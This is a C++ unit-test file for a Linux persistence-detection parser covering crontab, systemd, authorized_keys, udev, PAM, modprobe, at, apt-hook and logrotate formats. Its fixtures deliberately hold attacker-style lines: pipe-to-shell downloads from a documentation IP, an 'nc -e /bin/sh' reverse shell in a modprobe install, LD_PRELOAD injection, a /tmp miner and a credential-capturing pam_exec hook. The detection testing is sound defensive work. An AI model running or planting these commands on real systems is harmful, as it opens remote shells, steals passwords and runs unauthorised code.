#include "collect/logrotate_parse.hpp"
#include "collect/persistence_parse.hpp"

#include <gtest/gtest.h>

using namespace vigil::collect;

TEST(Crontab, SystemAndUserFormats) {
  auto sys = parse_crontab(
      "SHELL=/bin/sh\nPATH=/usr/bin:/bin\n# m h dom mon dow user command\n"
      "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
      "@reboot root /tmp/.x/start\n"
      "*/5 * * * * www-data curl -s http://198.51.100.9/x | sh\n"
      "broken line\n",
      true);
  ASSERT_EQ(sys.rows.size(), 3u);
  EXPECT_EQ(sys.rows[0].user, "root");
  EXPECT_EQ(sys.rows[0].schedule, "17 * * * *");
  EXPECT_EQ(sys.rows[0].command, "cd / && run-parts --report /etc/cron.hourly");
  EXPECT_EQ(sys.rows[1].schedule, "@reboot");
  EXPECT_EQ(sys.rows[2].line, 6u);
  ASSERT_EQ(sys.errors.size(), 1u);
  EXPECT_EQ(sys.errors[0].line, 7u);
  auto user = parse_crontab("MAILTO=\"\"\n0 3 * * * /home/a/backup.sh --full\n", false);
  ASSERT_EQ(user.rows.size(), 1u);
  EXPECT_EQ(user.rows[0].command, "/home/a/backup.sh --full");
}

TEST(SystemdUnit, ExecLinesEnvironmentAndTimerUnit) {
  auto cmds = parse_systemd_unit(
      "[Unit]\nDescription=x\nExecStart=/not/in/service\n[Service]\nType=simple\n"
      "Environment=LD_PRELOAD=/lib/libx.so\nExecStartPre=-/usr/bin/true\nExecStart=@/tmp/.x/miner miner --pool p\n"
      "; comment\n[Timer]\nUnit=backup.service\n");
  ASSERT_EQ(cmds.size(), 4u);
  EXPECT_EQ(cmds[0].key, "Environment");
  EXPECT_EQ(cmds[1].command, "/usr/bin/true");
  EXPECT_EQ(cmds[2].command, "/tmp/.x/miner miner --pool p");
  EXPECT_EQ(cmds[2].line, 8u);
  EXPECT_EQ(cmds[3].key, "Unit");
}

TEST(AuthorizedKeys, OptionsAndForcedCommand) {
  auto k = parse_authorized_keys(
      "ssh-ed25519 AAAAC3Nza alice@laptop\n"
      "command=\"/usr/bin/rsync --server, \\\"quoted\\\"\",no-pty,from=\"10.0.0.0/8\" ssh-rsa AAAAB3 backup key\n"
      "# comment\n"
      "garbage\n");
  ASSERT_EQ(k.rows.size(), 2u);
  EXPECT_EQ(k.rows[0].comment, "alice@laptop");
  EXPECT_TRUE(k.rows[0].options.empty());
  EXPECT_EQ(k.rows[1].forced_command, "/usr/bin/rsync --server, \"quoted\"");
  EXPECT_EQ(k.rows[1].type, "ssh-rsa");
  EXPECT_EQ(k.rows[1].comment, "backup key");
  ASSERT_EQ(k.errors.size(), 1u);
  EXPECT_EQ(k.errors[0].line, 4u);
}

TEST(OtherFormats, UdevPamModprobeEnvironmentDesktop) {
  auto udev = parse_udev_runs("ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/tmp/x.sh\", RUN{program}+=\"/bin/y\"\n# RUN+=\"no\"\n");
  ASSERT_EQ(udev.size(), 2u);
  EXPECT_EQ(udev[0].command, "/tmp/x.sh");
  EXPECT_EQ(udev[1].command, "/bin/y");
  auto pam = parse_pam_stack(
      "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite /lib/security/pam_evil.so\n"
      "@include common-auth\nsession include su\n-account required pam_permit.so\n"
      "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.auth-log --to [/var/tmp/a b]\n");
  ASSERT_EQ(pam.size(), 4u);
  EXPECT_EQ(pam[0].module, "pam_unix.so");
  EXPECT_EQ(pam[0].control, "[success=1 default=ignore]");
  EXPECT_EQ(pam[0].args, std::vector<std::string>{"nullok"});
  EXPECT_EQ(pam[1].module, "/lib/security/pam_evil.so");
  EXPECT_EQ(pam[2].module, "pam_permit.so");
  EXPECT_EQ(pam[2].type, "account");
  auto exec = pam_exec_program(pam[3].args);
  EXPECT_TRUE(exec.expose_authtok);
  EXPECT_EQ(exec.command, "/usr/local/sbin/.auth-log --to [/var/tmp/a b]");
  auto mp = parse_modprobe_installs("blacklist x\ninstall usb-storage /bin/sh -c 'nc -e /bin/sh 1.2.3.4 1'\n");
  ASSERT_EQ(mp.size(), 1u);
  EXPECT_EQ(mp[0].command, "/bin/sh -c 'nc -e /bin/sh 1.2.3.4 1'");
  auto env = parse_env_assignments("PATH=/usr/bin\nexport LD_PRELOAD=\"/usr/lib/libz.so\"\n", "LD_PRELOAD");
  ASSERT_EQ(env.size(), 1u);
  EXPECT_EQ(env[0].command, "/usr/lib/libz.so");
  auto desk = parse_desktop_exec("[Desktop Entry]\nName=x\nExec=/home/a/.x/run --quiet\n");
  ASSERT_EQ(desk.size(), 1u);
  EXPECT_EQ(desk[0].line, 3u);
  EXPECT_EQ(parse_module_list("# c\nloop\n  br_netfilter  \n").size(), 2u);
}

TEST(AtJob, BodyBetweenTheMarkersAndTheSubmitter) {
  auto job = parse_at_job(
      "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nOLDPWD=/tmp; export OLDPWD\n"
      "cd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
      "${SHELL:-/bin/sh} << 'marcinDELIMITER0c3e'\n/usr/bin/backup --all\n\ncurl x | sh\nmarcinDELIMITER0c3e\n");
  EXPECT_EQ(job.uid, 1000);
  ASSERT_EQ(job.body.size(), 2u);
  EXPECT_EQ(job.body[0].line, 11u);
  EXPECT_EQ(job.body[0].command, "/usr/bin/backup --all");
  EXPECT_EQ(job.body[1].command, "curl x | sh");
  // An older at appends the job after the preamble, without a marker.
  auto old = parse_at_job("#!/bin/sh\n# atrun uid=0 gid=0\nPATH=/bin; export PATH\ncd /root || {\n}\nrm -rf /x\n");
  ASSERT_EQ(old.body.size(), 1u);
  EXPECT_EQ(old.body[0].command, "rm -rf /x");
  EXPECT_TRUE(parse_at_job("").body.empty());
}

TEST(AptHooks, ScopesListsAndComments) {
  auto hooks = parse_apt_hooks(
      "// comment \"not a value\"\nDPkg::Post-Invoke { \"rm -f /a || true\"; \"echo b\"; };\n"
      "/* block\n comment */ APT::Update::Pre-Invoke:: \"curl x | sh\";\n"
      "DPkg {\n  Pre-Install-Pkgs { \"/usr/sbin/dpkg-preconfigure --apt\"; };\n};\n"
      "Acquire::http::Proxy \"http://proxy:3128\";\n#clear DPkg::Post-Invoke;\n");
  ASSERT_EQ(hooks.size(), 4u);
  EXPECT_EQ(hooks[0].option, "DPkg::Post-Invoke");
  EXPECT_EQ(hooks[0].command, "rm -f /a || true");
  EXPECT_EQ(hooks[0].line, 2u);
  EXPECT_EQ(hooks[1].command, "echo b");
  EXPECT_EQ(hooks[2].option, "APT::Update::Pre-Invoke");
  EXPECT_EQ(hooks[2].line, 4u);
  EXPECT_EQ(hooks[3].option, "DPkg::Pre-Install-Pkgs");
  EXPECT_EQ(hooks[3].line, 6u);
}

TEST(Logrotate, StanzasScriptsAndCopytruncate) {
  auto entries = parse_logrotate(
      "# global\nweekly\ninclude /etc/logrotate.d\n/var/log/syslog\n/var/log/auth.log {\n  rotate 4\n"
      "  postrotate\n    /usr/lib/rsyslog/rsyslog-rotate { x }\n  endscript\n}\n"
      "\"/var/log/app/app.log\" {\n  copytruncate\n}\n/var/log/wtmp { monthly }\n/var/log/*.log {\n}\n");
  ASSERT_EQ(entries.size(), 4u);
  EXPECT_EQ(entries[0].paths, (std::vector<std::string>{"/var/log/syslog", "/var/log/auth.log"}));
  EXPECT_EQ(entries[0].line, 4u);
  EXPECT_FALSE(entries[0].copytruncate);
  EXPECT_EQ(entries[1].paths, std::vector<std::string>{"/var/log/app/app.log"});
  EXPECT_TRUE(entries[1].copytruncate);
  EXPECT_EQ(entries[2].paths, std::vector<std::string>{"/var/log/wtmp"});
  EXPECT_EQ(entries[3].paths, std::vector<std::string>{"/var/log/*.log"});
}
